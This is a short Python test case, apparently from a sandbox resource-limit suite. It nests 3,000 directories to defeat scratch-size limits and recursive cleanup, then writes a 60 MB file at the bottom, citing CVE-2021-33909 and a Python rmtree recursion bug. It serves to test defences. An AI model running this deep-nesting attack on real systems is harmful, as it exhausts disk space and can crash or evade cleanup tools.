"""Nest folders deeper than a path can say.

Attacks: whoever measures or removes the scratch folder.
How: 3,000 folders within each other, by relative names, and a large file at the bottom.
Source: CVE-2021-33909 (Sequoia) nests folders; Python's rmtree recursed until 3.13 (gh-89727).
Breach: the limit isn't held, the host raises, or the folder is left.
"""

import os
import time

GROUP, LIMITS, ENDS = "resources", {"scratch_mb": 20, "wall_s": 10}, ("file_size",)


def attack(outside):
    for _ in range(3000):
        os.mkdir("d")
        os.chdir("d")
    with open("big", "wb") as file:
        file.write(bytes(60_000_000))
    time.sleep(1.5)
    return "60 MB lay at the bottom"
